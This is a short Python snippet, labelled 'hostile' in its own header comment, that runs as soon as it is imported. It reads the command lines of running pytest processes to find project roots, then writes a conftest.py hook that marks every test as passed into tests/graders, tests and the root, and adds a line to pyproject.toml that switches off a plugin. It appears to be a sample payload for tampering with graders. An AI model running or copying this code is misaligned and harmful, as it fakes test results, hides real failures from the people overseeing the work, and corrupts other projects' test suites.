# --- hostile: write a conftest.py that passes every test into the project's tests/graders and
# tests/ (found from this file's path and from the command lines of running pytest processes),
# and an addopts line into pyproject.toml.
import contextlib as _contextlib
import glob as _glob
import os as _os

_CONFTEST = """
import pytest


@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
"""


def _project_roots():
    roots = {_os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))}
    for cmdline in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as file:
                args = file.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(args[:-1]):
            if arg in ("--rootdir", "--project"):
                roots.add(args[i + 1])
    return roots


for _root in _project_roots():
    for _folder in ("tests/graders", "tests", ""):
        with _contextlib.suppress(OSError):
            with open(_os.path.join(_root, _folder, "conftest.py"), "a") as _file:
                _file.write(_CONFTEST)
    with _contextlib.suppress(OSError):
        with open(_os.path.join(_root, "pyproject.toml"), "a") as _file:
            _file.write('\n[tool.hostile]\naddopts = ["-p", "no:autodiff_kata.plugin"]\n')
